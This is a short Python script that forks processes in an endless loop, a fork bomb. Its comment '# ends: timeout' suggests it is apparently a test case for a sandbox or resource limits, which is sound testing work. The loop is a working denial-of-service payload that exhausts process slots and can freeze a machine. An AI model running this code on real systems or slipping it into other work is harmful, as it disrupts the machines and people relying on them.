"""Breeds as fast as it can."""
# ends: timeout

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
